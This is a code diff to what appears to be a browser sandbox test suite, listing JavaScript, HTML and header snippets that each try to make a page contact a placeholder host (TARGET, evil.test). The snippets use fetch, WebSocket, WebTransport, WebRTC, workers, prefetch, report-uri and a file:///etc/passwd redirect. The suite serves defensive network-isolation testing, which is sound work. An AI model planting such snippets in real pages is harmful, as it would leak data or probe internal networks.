@@ -42,7 +42,6 @@ SCRIPTS = {
     "secure websocket": "new WebSocket('wss://TARGET/')",
     "websocket by name": "new WebSocket('ws://evil.test:PORT/')",
     "websocket stream": "if (window.WebSocketStream) new WebSocketStream('ws://TARGET/').opened.catch(() => 0)",
-    "webtransport": "t = new WebTransport('https://TARGET/'); t.ready.catch(() => 0); t.closed.catch(() => 0)",
     "webrtc stun": "rtc([{urls: 'stun:TARGET'}])",
     "webrtc stun by name": "rtc([{urls: 'stun:evil.test:PORT'}])",
     "webrtc turn udp": "rtc([{urls: 'turn:TARGET?transport=udp', username: 'u', credential: 'p'}])",
@@ -53,8 +52,8 @@ SCRIPTS = {
     "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('http://TARGET/', {mode: 'no-cors'})\"])))",
     "worker imports": "new Worker(URL.createObjectURL(new Blob([\"importScripts('http://TARGET/')\"])))",
     "worker websocket": "new Worker(URL.createObjectURL(new Blob([\"new WebSocket('ws://TARGET/')\"])))",
-    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob([\"fetch('http://TARGET/', {mode: 'no-cors'})\"])))",
-    "service worker": "navigator.serviceWorker && navigator.serviceWorker.register('/worker.js').catch(() => 0)",
+    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob([\"fetch('http://TARGET/', {mode: 'no-cors'})\"]"
+    ")))",
     "location": "location = 'http://TARGET/'",
     "location replaced": "location.replace('http://TARGET/')",
     "location file": "location = 'file:///etc/passwd'",
@@ -80,6 +79,25 @@ SCRIPTS = {
     "fetch(`http://${h}/`, {mode: 'no-cors'})",
 }
 
+#: Run as scripts of https pages, which may do more.
+SECURE = {
+    "webtransport": "t = new WebTransport('https://TARGET/'); t.ready.catch(() => 0); t.closed.catch(() => 0)",
+    "webtransport by hash": "t = new WebTransport('https://TARGET/', {serverCertificateHashes: [{algorithm: 'sha-256',"
+    "value: new Uint8Array(32)}]}); t.ready.catch(() => 0); t.closed.catch(() => 0)",
+    "worker webtransport": "new Worker(URL.createObjectURL(new Blob([\"new WebTransport('https://TARGET/')\"])))",
+    "service worker": "navigator.serviceWorker && navigator.serviceWorker.register('/worker.js').catch(() => 0)",
+    "fetch by https": "fetch('https://TARGET/', {mode: 'no-cors'})",
+    "fetch later": "if (window.fetchLater) fetchLater('https://TARGET/', {activateAfter: 0})",
+    "local network": "fetch('http://TARGET/', {mode: 'no-cors', targetAddressSpace: 'loopback'})",
+    "wss": "new WebSocket('wss://TARGET/')",
+    "direct socket": "if (window.TCPSocket) new TCPSocket('127.0.0.1', PORT).opened.catch(() => 0)",
+    "payment": "if (window.PaymentRequest) new PaymentRequest([{supportedMethods: 'https://TARGET/'}],"
+    "{total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => 0)",
+    "credentials": "navigator.credentials.get({identity: {providers: [{configURL: 'https://TARGET/c', clientId: 'x'}]}}"
+    ").catch(() => 0)",
+    "webrtc of https": "rtc([{urls: ['stun:TARGET', 'turns:TARGET']}])",
+}
+
 #: Written as HTML.
 MARKUP = {
     "stylesheet": "<link rel=stylesheet href=http://TARGET/>",
@@ -90,7 +108,8 @@ MARKUP = {
     "preload of a module": "<link rel=modulepreload href=http://TARGET/x.js>",
     "prefetch": "<link rel=prefetch href=http://TARGET/>",
     "prerender": "<link rel=prerender href=http://TARGET/>",
-    "speculation": '<script type=speculationrules>{"prefetch": [{"urls": ["http://TARGET/"], "eagerness": "immediate"}],'
+    "speculation": "<script type=speculationrules>"
+    '{"prefetch": [{"urls": ["http://TARGET/"], "eagerness": "immediate"}],'
     '"prerender": [{"urls": ["http://TARGET/2"], "eagerness": "immediate"}]}</script>',
     "preconnect": "<link rel=preconnect href=http://TARGET>",
     "dns-prefetch": "<link rel=dns-prefetch href=http://evil.test:PORT>",
@@ -100,15 +119,17 @@ MARKUP = {
     "embed": "<embed src=http://TARGET/ type=text/html>",
     "video": "<video src=http://TARGET/ autoplay muted></video>",
     "track": "<video><track src=http://TARGET/ default></video>",
-    "svg": "<svg xmlns:xlink=http://www.w3.org/1999/xlink><use xlink:href=http://TARGET/#a /><image href=http://TARGET/ />"
-    "</svg>",
+    "svg": "<svg xmlns:xlink=http://www.w3.org/1999/xlink><use xlink:href=http://TARGET/#a />"
+    "<image href=http://TARGET/ /></svg>",
     "refresh": "<meta http-equiv=refresh content='0; url=http://TARGET/'>",
     "base": "<base href=http://TARGET/><script src=x.js></script>",
 }
 
 #: Headers of the page make the browser send something.
 HEADERS = {
-    "policy reports": {"Content-Security-Policy": "script-src 'unsafe-inline'; img-src 'none'; report-uri http://TARGET/"},
+    "policy reports": {
+        "Content-Security-Policy": "script-src 'unsafe-inline'; img-src 'none'; report-uri http://TARGET/"
+    },
     "reporting": {
         "Reporting-Endpoints": 'default="http://TARGET/r"',
         "Content-Security-Policy": "script-src 'unsafe-inline'; img-src 'none'; report-to default",
@@ -141,7 +162,7 @@ async function rtc(servers, candidate) {
 
 def hostile_pages(target: str, port: int) -> dict[str, tuple[str, dict[str, str]]]:
     """Name of the attempt -> (HTML, headers)."""
-    pages = {name: (_page(script), {}) for name, script in SCRIPTS.items()}
+    pages = {name: (_page(script), {}) for name, script in (SCRIPTS | SECURE).items()}
     pages |= {name: (_page("", markup), {}) for name, markup in MARKUP.items()}
     pages |= {name: (_page("add('<img src=/x.png>')"), headers) for name, headers in HEADERS.items()}
 
